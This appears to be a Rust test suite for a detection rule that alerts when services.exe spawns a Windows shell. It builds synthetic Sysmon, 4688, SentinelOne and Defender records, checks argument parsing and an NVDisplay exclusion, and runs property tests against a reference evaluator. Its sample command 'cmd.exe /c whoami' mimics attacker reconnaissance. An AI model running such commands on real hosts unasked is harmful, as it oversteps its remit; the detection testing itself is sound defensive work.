/// One services.exe → cmd.exe start in each raw Windows event-log shape (Sysmon or 4688 flavour), with
/// `host` set to `host` when given.
fn raw_windows_starts(cmd: &str, host: Option<Value>) -> Vec<(&'static str, Value)> {
    let img = "C:\\Windows\\System32\\cmd.exe";
    let par = "C:\\Windows\\System32\\services.exe";
    let sysmon_data = json!({"Image": img, "ParentImage": par, "CommandLine": cmd});
    let sec_data = json!({"NewProcessName": img, "ParentProcessName": par, "CommandLine": cmd});
    let mut ins: Vec<String> = (0..21).map(|k| format!("x{k}")).collect();
    ins[4] = img.into();
    ins[19] = par.into();
    ins[9] = cmd.into();
    let mut out = vec![
        (
            "winlogbeat_sysmon",
            json!({"winlog": {"channel": SYSMON, "event_id": "1", "event_data": sysmon_data}}),
        ),
        (
            "winlogbeat_security",
            json!({"winlog": {"channel": "Security", "event_id": "4688", "event_data": sec_data}}),
        ),
        ("nxlog", {
            let mut v = sysmon_data.clone();
            v["EventID"] = json!(1);
            v["Channel"] = json!(SYSMON);
            v
        }),
        (
            "evtx",
            json!({"Event": {"System": {"EventID": 4688, "Channel": "Security"}, "EventData": sec_data}}),
        ),
        (
            "evtx",
            json!({"Event": {"System": {"EventID": 1, "Channel": SYSMON}, "EventData": sysmon_data}}),
        ),
        (
            "winevtlog",
            json!({"ProviderName": "p", "EventID": 1, "Channel": SYSMON, "StringInserts": ins}),
        ),
        (
            "winevtlog",
            json!({"ProviderName": "p", "EventID": 1, "Channel": SYSMON, "EventData": sysmon_data}),
        ),
    ];
    if let Some(h) = host {
        for (_, v) in out.iter_mut() {
            v["host"] = h.clone();
        }
    }
    out
}

#[test]
fn host_os_type_that_is_not_a_string_is_not_windows() {
    // Elastic indexes a number or boolean in a keyword field as its text ("1", "true"): the field is
    // present and `== "windows"` is false, so no alert. Only a missing field (absent, null, [] or [null])
    // counts as windows for a raw Windows event-log record.
    let f = filter();
    for (os, want) in [
        (None, true),
        (Some(json!(null)), true),
        (Some(json!([])), true),
        (Some(json!([null])), true),
        (Some(json!("windows")), true),
        (Some(json!(["linux", "windows"])), true),
        (Some(json!([1, "windows"])), true),
        (Some(json!(1)), false),
        (Some(json!(0)), false),
        (Some(json!(-1)), false),
        (Some(json!(1.5)), false),
        (Some(json!(true)), false),
        (Some(json!(false)), false),
        (Some(json!([1])), false),
        (Some(json!([null, false])), false),
        (Some(json!("")), false),
        (Some(json!("Windows")), false),
    ] {
        let host = os.clone().map(|t| json!({"name": "h", "os": {"type": t}}));
        for (shape, r) in raw_windows_starts("cmd.exe /c whoami", host) {
            assert_eq!(explain(&f, &r).0, Some(shape), "{r}");
            assert_eq!(alert(&f, &r), want, "{shape}, host.os.type {os:?}");
            // The same with a dotted key.
            let mut d = r.clone();
            d.as_object_mut().unwrap().remove("host");
            if let Some(t) = &os {
                d["host.os.type"] = t.clone();
            }
            assert_eq!(alert(&f, &d), want, "{shape}, dotted host.os.type {os:?}");
        }
    }
}

#[test]
fn sysmon_command_lines_keep_their_outer_quotes() {
    // SentinelOne's pipeline strips one pair of outer quotes before splitting; the Sysmon pipeline does not,
    // so a fully quoted Sysmon command line is one argument and the NVDisplay exclusion does not hold.
    let f = filter();
    let cmd = "\"cmd.exe /c NVDisplay.ContainerLocalSystem\"";
    for (shape, r) in raw_windows_starts(cmd, None) {
        let args = field(&explain(&f, &r).1, "process.args");
        if shape == "winlogbeat_security" || r["Event"]["System"]["EventID"] == 4688 {
            assert_eq!(
                args,
                vec![cmd.to_string()],
                "{shape}: argv_4688 keeps quotes"
            );
        } else {
            assert_eq!(
                args,
                vec!["cmd.exe /c NVDisplay.ContainerLocalSystem".to_string()],
                "{shape}"
            );
        }
        assert!(alert(&f, &r), "{shape}: {r}");
    }
    let s1 = json!({"meta.event.name": "PROCESSCREATION", "endpoint.os": "windows",
        "tgt.process.name": "cmd.exe", "src.process.name": "services.exe", "tgt.process.cmdline": cmd});
    assert!(
        !alert(&f, &s1),
        "SentinelOne: outer quotes removed, then split"
    );
}

#[test]
fn nxlog_evtx_and_winevtlog() {
    let f = filter();
    let nx = json!({"EventID": 1, "Channel": SYSMON, "SourceName": "Microsoft-Windows-Sysmon",
        "Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Windows\\System32\\services.exe",
        "CommandLine": "cmd /c x", "host": "wec01"});
    assert_eq!(explain(&f, &nx).0, Some("nxlog"));
    assert!(alert(&f, &nx));
    let nx4688 = json!({"EventID": 4688, "Channel": "Security",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "ParentProcessName": "C:\\Windows\\System32\\services.exe", "CommandLine": ""});
    assert!(alert(&f, &nx4688));
    assert_eq!(
        field(&explain(&f, &nx4688).1, "process.args"),
        Vec::<String>::new()
    );

    let ev = json!({"Event": {"System": {"EventID": {"#attributes": {"Qualifiers": 0}, "#text": 4688},
        "Channel": "Security"}, "EventData": {"NewProcessName": "C:\\Windows\\System32\\pwsh.exe",
        "ParentProcessName": "C:\\Windows\\System32\\services.exe", "ProcessId": "0x2c0"}}});
    assert_eq!(explain(&f, &ev).0, Some("evtx"));
    assert!(alert(&f, &ev));
    let ev1 = json!({"Event": {"System": {"EventID": 1, "Channel": SYSMON}, "EventData": {
        "Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Windows\\System32\\services.exe",
        "CommandLine": "cmd.exe /c NVDISPLAY.CONTAINERLOCALSYSTEM"}}});
    assert!(!alert(&f, &ev1));

    // Fluent Bit StringInserts: Sysmon parent at [19] with 21 inserts, [20] with 22 or 23; CommandLine at
    // [9] / [10]; 4688 v2 child [5], parent [13], CommandLine [8].
    for n in [21usize, 22, 23] {
        let mut ins: Vec<String> = (0..n).map(|k| format!("x{k}")).collect();
        let (p, c) = if n == 21 { (19, 9) } else { (20, 10) };
        ins[4] = "C:\\Windows\\System32\\cmd.exe".into();
        ins[p] = "C:\\Windows\\System32\\services.exe".into();
        ins[c] = "cmd.exe /c NVDisplay.ContainerLocalSystem".into();
        let mut fb = json!({"ProviderName": "Microsoft-Windows-Sysmon", "EventID": 1, "Channel": SYSMON,
            "StringInserts": ins});
        assert_eq!(explain(&f, &fb).0, Some("winevtlog"), "{n}");
        assert!(!alert(&f, &fb), "{n}: NVDisplay");
        fb["StringInserts"][c] = json!("cmd.exe /c whoami");
        assert!(alert(&f, &fb), "{n}");
        let other = if n == 21 { 20 } else { 19 };
        fb["StringInserts"][p] = json!("x");
        fb["StringInserts"][other] = json!("C:\\Windows\\System32\\services.exe");
        assert!(!alert(&f, &fb), "{n}: parent read at the wrong insert");
    }
    let mut ins: Vec<String> = (0..15).map(|k| format!("x{k}")).collect();
    ins[5] = "C:\\Windows\\System32\\powershell_ise.exe".into();
    ins[13] = "C:\\Windows\\System32\\services.exe".into();
    ins[8] = "x y".into();
    let fb = json!({"ProviderName": "Microsoft-Windows-Security-Auditing", "EventID": 4688,
        "Channel": "Security", "StringInserts": ins});
    assert!(alert(&f, &fb));
    assert_eq!(field(&explain(&f, &fb).1, "process.args"), vec!["x", "y"]);
    let fb1 = json!({"ProviderName": "Microsoft-Windows-Security-Auditing", "EventID": 4688,
        "Channel": "Security", "StringInserts": ins[..9].to_vec()});
    assert!(!alert(&f, &fb1), "v1: no parent");
    // The EventData map (Fluent Bit >= 5.1).
    let fbm = json!({"ProviderName": "Microsoft-Windows-Sysmon", "EventID": 1, "Channel": SYSMON,
        "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe",
        "ParentImage": "C:\\Windows\\System32\\services.exe"}});
    assert_eq!(explain(&f, &fbm).0, Some("winevtlog"));
    assert!(alert(&f, &fbm));
}

#[test]
fn sentinelone_derivations() {
    let f = filter();
    let s1 = |cmd: &str| {
        json!({"meta.event.name": "PROCESSCREATION", "event.type": "ProcessCreation",
            "event.category": "process", "endpoint.os": "windows",
            "tgt.process.name": "cmd.exe", "src.process.name": "services.exe",
            "src.process.parent.name": "wininit.exe", "tgt.process.cmdline": cmd})
    };
    let r = s1("cmd.exe /c whoami");
    assert_eq!(explain(&f, &r).0, Some("sentinelone"));
    assert!(alert(&f, &r));
    // Outer quotes removed, then Go-style splitting.
    let r = s1("\"cmd.exe /c NVDisplay.ContainerLocalSystem\"");
    assert_eq!(
        field(&explain(&f, &r).1, "process.args"),
        vec!["cmd.exe", "/c", "NVDisplay.ContainerLocalSystem"]
    );
    assert!(!alert(&f, &r));
    // Doubled backslashes collapse before splitting: `\\"` is then an escaped quote.
    let r = s1("C:\\\\Windows\\\\cmd.exe /c \"a\\\\\" b\"");
    assert_eq!(
        field(&explain(&f, &r).1, "process.args"),
        vec!["C:\\Windows\\cmd.exe", "/c", "a\" b"]
    );
    let r = s1("C:\\\\\\Windows");
    assert_eq!(
        field(&explain(&f, &r).1, "process.args"),
        vec!["C:\\\\Windows"]
    );
    // The parent is src.process.name, not src.process.parent.name.
    let mut x = s1("cmd");
    x["src.process.name"] = json!("wininit.exe");
    x["src.process.parent.name"] = json!("services.exe");
    assert!(!alert(&f, &x));
    // Other events, other os values.
    let mut x = s1("cmd");
    x["meta.event.name"] = json!("PROCESSTERMINATION");
    assert!(!alert(&f, &x));
    for os in ["linux", "Windows", "win"] {
        let mut x = s1("cmd");
        x["endpoint.os"] = json!(os);
        assert!(!alert(&f, &x), "{os}");
    }
}

#[test]
fn m365_defender_derivations() {
    let f = filter();
    let m = json!({"category": "AdvancedHunting-DeviceProcessEvents", "properties": {
        "ActionType": "ProcessCreated", "OSPlatform": "Windows10", "FileName": "pwsh.exe",
        "InitiatingProcessFileName": "services.exe",
        "ProcessCommandLine": "  pwsh.exe  -c \"NVDisplay.ContainerLocalSystem\" "}});
    let (shape, v) = explain(&f, &m);
    assert_eq!(shape, Some("m365"));
    assert_eq!(
        field(&v, "process.args"),
        vec!["pwsh.exe", "-c", "\"NVDisplay.ContainerLocalSystem\""]
    );
    assert!(alert(&f, &m));
    // Case-insensitive "contains" for category, ActionType and OSPlatform.
    let mut x = m.clone();
    x["category"] = json!("advancedhunting-deviceprocessevents");
    x["properties"]["ActionType"] = json!("PROCESSCREATED");
    x["properties"]["OSPlatform"] = json!("WindowsServer2019");
    assert!(alert(&f, &x));
    // No OSPlatform: no os, no alert; a Linux device: no alert.
    let mut x = m.clone();
    x["properties"]
        .as_object_mut()
        .unwrap()
        .remove("OSPlatform");
    assert!(!alert(&f, &x));
    x["properties"]["OSPlatform"] = json!("Linux");
    assert!(!alert(&f, &x));
    let mut x = m.clone();
    x["category"] = json!("AdvancedHunting-DeviceNetworkEvents");
    assert!(!alert(&f, &x));
    let mut x = m.clone();
    x["properties"]["ProcessCommandLine"] = json!("pwsh.exe -c NVDisplay.ContainerLocalSystem");
    assert!(!alert(&f, &x));
}

// ---------------------------------------------------------------------------------- properties

/// One ECS process event, and the same event in each raw shape.
#[derive(Debug, Clone)]
struct Proc {
    child: String,
    parent: String,
    args: Vec<String>,
    start: bool,
    /// "windows" or "linux".
    os: String,
    /// Raw Windows event-log shapes: leave out host.os.type when the os is windows.
    omit_os: bool,
    /// Sysmon (true) or Security 4688 flavour of the Windows event-log shapes.
    sysmon: bool,
    variant: u8,
    /// What separates the arguments in the command line.
    sep: &'static str,
    /// The whole command line in quotes.
    quote_all: bool,
    /// `host.os.type` is this number or boolean instead (ECS and the raw Windows event-log shapes).
    odd_os: Option<u8>,
}

const DIR: &str = "C:\\Windows\\System32\\";

impl Proc {
    fn ecs(&self) -> Value {
        let mut v = json!({"@timestamp": "2024-05-13T06:16:14Z",
            "event": {"category": ["process"], "type": [if self.start { "start" } else { "end" }]},
            "host": {"os": {"type": self.os_value()}},
            "process": {"name": self.child, "parent": {"name": self.parent}}});
        if !self.args.is_empty() {
            v["process"]["args"] = json!(self.args);
        }
        v
    }

    fn cmd(&self) -> String {
        let c = self.args.join(self.sep);
        if self.quote_all {
            format!("\"{c}\"")
        } else {
            c
        }
    }

    fn os_value(&self) -> Value {
        match self.odd_os {
            Some(k) => [json!(1), json!(true), json!(0), json!(false)][k as usize % 4].clone(),
            None => json!(self.os),
        }
    }

    /// Every argument survives every shape's splitter unchanged (the command line is `args` joined by one
    /// space).
    fn plain(&self) -> bool {
        self.sep == " "
            && !self.quote_all
            && self.odd_os.is_none()
            && self.args.iter().all(|a| {
                a != "-"
                    && !a.is_empty()
                    && a.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "._:/=%-".contains(c))
            })
    }

    fn host(&self) -> Value {
        if self.omit_os && self.os == "windows" && self.odd_os.is_none() {
            json!({"name": "h"})
        } else {
            json!({"name": "h", "os": {"type": self.os_value()}})
        }
    }

    fn eid(&self) -> u32 {
        match (self.sysmon, self.start) {
            (true, true) => 1,
            (true, false) => 5,
            (false, true) => 4688,
            (false, false) => 4689,
        }
    }

    fn channel(&self) -> &'static str {
        if self.sysmon {
            SYSMON
        } else {
            "Security"
        }
    }

    fn data(&self) -> Value {
        if self.sysmon {
            json!({"Image": format!("{DIR}{}", self.child),
                "ParentImage": format!("{DIR}{}", self.parent), "CommandLine": self.cmd()})
        } else {
            json!({"NewProcessName": format!("{DIR}{}", self.child),
                "ParentProcessName": format!("{DIR}{}", self.parent), "CommandLine": self.cmd()})
        }
    }

    fn winlogbeat(&self) -> Value {
        let eid = if self.variant.is_multiple_of(2) {
            json!(self.eid().to_string())
        } else {
            json!(self.eid())
        };
        json!({"host": self.host(),
            "winlog": {"channel": self.channel(), "event_id": eid, "event_data": self.data()}})
    }

    fn nxlog(&self) -> Value {
        let mut v = self.data();
        v["EventID"] = json!(self.eid());
        v["Channel"] = json!(self.channel());
        v["SourceName"] = json!("Microsoft-Windows-Sysmon");
        v["host"] = self.host();
        v
    }

    fn evtx(&self) -> Value {
        let eid = if self.variant.is_multiple_of(2) {
            json!(self.eid())
        } else {
            json!({"#attributes": {"Qualifiers": 0}, "#text": self.eid()})
        };
        json!({"host": self.host(), "Event": {"System": {"EventID": eid, "Channel": self.channel()},
            "EventData": self.data()}})
    }

    fn winevtlog(&self) -> Value {
        let mut v = json!({"ProviderName": "p", "EventID": self.eid(), "Channel": self.channel(),
            "host": self.host()});
        if self.variant.is_multiple_of(2) {
            v["EventData"] = self.data();
            return v;
        }
        let (n, child, parent, cmd) = if self.sysmon {
            match self.variant % 3 {
                0 => (21, 4, 19, 9),
                1 => (22, 4, 20, 10),
                _ => (23, 4, 20, 10),
            }
        } else {
            (15, 5, 13, 8)
        };
        let mut ins: Vec<String> = (0..n).map(|k| format!("i{k}")).collect();
        ins[child] = format!("{DIR}{}", self.child);
        ins[parent] = format!("{DIR}{}", self.parent);
        ins[cmd] = self.cmd();
        v["StringInserts"] = json!(ins);
        v
    }

    /// As Vector's `windows_event_log` source writes the event (its `host` replaced by the generated one);
    /// unnamed-data `string_inserts` with rule-like text in some variants (never read).
    fn vector(&self) -> Value {
        let eid = if self.variant.is_multiple_of(3) {
            json!(self.eid().to_string())
        } else {
            json!(self.eid())
        };
        let mut v = json!({"timestamp": "2024-05-13T06:16:14Z", "message": "m", "host": self.host(),
            "event_id": eid, "record_id": 7, "level": "Information", "level_value": 4,
            "channel": self.channel(), "provider_name": "p", "computer": "h", "process_id": 1,
            "thread_id": 2, "version": 5, "event_data": self.data()});
        if self.variant.is_multiple_of(5) {
            v["string_inserts"] = json!([format!("{DIR}cmd.exe"), format!("{DIR}services.exe")]);
        }
        v
    }

    fn sentinelone(&self) -> Value {
        json!({"meta.event.name": if self.start { "PROCESSCREATION" } else { "PROCESSTERMINATION" },
            "event.type": "ProcessCreation", "event.category": "process", "endpoint.os": self.os,
            "tgt.process.name": self.child, "src.process.name": self.parent,
            "tgt.process.cmdline": self.cmd()})
    }

    fn m365(&self) -> Value {
        json!({"category": "AdvancedHunting-DeviceProcessEvents", "properties": {
            "ActionType": if self.start { "ProcessCreated" } else { "ProcessTerminated" },
            "OSPlatform": if self.os == "windows" { "Windows10" } else { "Linux" },
            "FileName": self.child, "InitiatingProcessFileName": self.parent,
            "ProcessCommandLine": self.cmd()}})
    }
}

fn name_strategy(names: &'static [&'static str]) -> impl Strategy<Value = String> {
    (prop::sample::select(names), any::<u32>()).prop_map(|(n, case)| {
        // Random ASCII case changes.
        n.chars()
            .enumerate()
            .map(|(k, c)| {
                if case >> (k % 32) & 1 == 1 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect()
    })
}

fn proc_strategy() -> impl Strategy<Value = Proc> {
    let child = name_strategy(&[
        "cmd.exe",
        "powershell.exe",
        "pwsh.exe",
        "powershell_ise.exe",
        "svchost.exe",
        "cmd.com",
        "msiexec.exe",
    ]);
    let parent = name_strategy(&[
        "services.exe",
        "services.exe",
        "explorer.exe",
        "service.exe",
        "services.exe.bak",
    ]);
    // Arguments that round-trip through every shape's splitter (no spaces, quotes or backslashes, not "-"),
    // and arguments made of the splitters' hard characters.
    let arg = prop_oneof![
        "[A-Za-z0-9._:/=%-]{1,12}".prop_filter("not -", |a| a != "-"),
        name_strategy(&[
            "NVDisplay.ContainerLocalSystem",
            "-s=NVDisplay.ContainerLocalSystem"
        ]),
        hard_arg(),
        hard_arg(),
    ];
    (
        child,
        parent,
        prop::collection::vec(arg, 0..5),
        prop::bool::weighted(0.8),
        prop::bool::weighted(0.8),
        any::<bool>(),
        any::<bool>(),
        any::<u8>(),
        prop::sample::select(vec![" ", " ", " ", "\t", "  ", " \t", "\u{3000}"]),
        prop::bool::weighted(0.2),
        prop::option::weighted(0.15, 0u8..4),
    )
        .prop_map(
            |(
                child,
                parent,
                args,
                start,
                windows,
                omit_os,
                sysmon,
                variant,
                sep,
                quote_all,
                odd_os,
            )| Proc {
                child,
                parent,
                args,
                start,
                os: if windows { "windows" } else { "linux" }.into(),
                omit_os,
                sysmon,
                variant,
                sep,
                quote_all,
                odd_os,
            },
        )
}

/// An argument made of the characters the splitters treat specially: spaces, tabs, quotes, runs of
/// backslashes before quotes, `""`, the empty string, Java-only whitespace, no-break spaces, non-ASCII, and
/// the NVDisplay word inside all that.
fn hard_arg() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        " ",
        "\t",
        "\"",
        "\\",
        "\\\\",
        "\\\"",
        "\\\\\"",
        "\\\\\\\"",
        "\"\"",
        "\"\"\"",
        "a",
        "Z",
        "-",
        "é",
        "ſ",
        "\u{212a}",
        "\u{3000}",
        "\u{a0}",
        "\u{2007}",
        "\u{2028}",
        "\u{85}",
        "\n",
        "\r",
        "\u{b}",
        "\u{1f}",
        "NVDisplay.ContainerLocalSystem",
    ];
    prop::collection::vec(prop::sample::select(PIECES), 0..7).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, ..ProptestConfig::default() })]

    #[test]
    fn raw_shapes_get_the_reference_verdict_and_values(p in proc_strategy()) {
        let f = filter();
        let ecs = p.ecs();
        let want_ecs = support::reference::evaluate(&ecs);
        prop_assert_eq!(alert(&f, &ecs), want_ecs.alert);
        let (_, ecs_values) = explain(&f, &ecs);
        for (shape, raw) in [
            ("winlogbeat", p.winlogbeat()),
            ("nxlog", p.nxlog()),
            ("evtx", p.evtx()),
            ("winevtlog", p.winevtlog()),
            ("sentinelone", p.sentinelone()),
            ("m365", p.m365()),
            ("vector", p.vector()),
        ] {
            // The oracle is the independent reference, on every record.
            let want = support::reference::evaluate(&raw);
            prop_assert_eq!(alert(&f, &raw), want.alert, "{} {}", shape, raw);
            let (detected, values) = explain(&f, &raw);
            prop_assert!(detected.is_some_and(|d| d.starts_with(shape)), "{:?} {}", detected, raw);
            prop_assert_eq!(detected, want.shape.map(|s| s.name()), "{}", raw);
            let mut values = values;
            for (_, v) in values.iter_mut() {
                v.sort();
            }
            prop_assert_eq!(&values, &want.fields.named(), "{} {}", shape, raw);
            // Vector's record means exactly what the same event shipped by Winlogbeat means.
            if shape == "vector" {
                let wlb = p.winlogbeat();
                prop_assert_eq!(alert(&f, &raw), alert(&f, &wlb), "{} {}", raw, wlb);
                prop_assert_eq!(explain(&f, &raw).1, explain(&f, &wlb).1, "{} {}", raw, wlb);
            }
            // Plain arguments survive every splitter: the raw record then means what the ECS one does.
            if p.plain() {
                prop_assert_eq!(want.alert, want_ecs.alert, "{} {}", shape, raw);
                for name in ["process.name", "process.parent.name", "process.args"] {
                    prop_assert_eq!(field(&values, name), {
                        let mut v = field(&ecs_values, name);
                        v.sort();
                        v
                    }, "{} {}", shape, name);
                }
            }
        }
    }
}
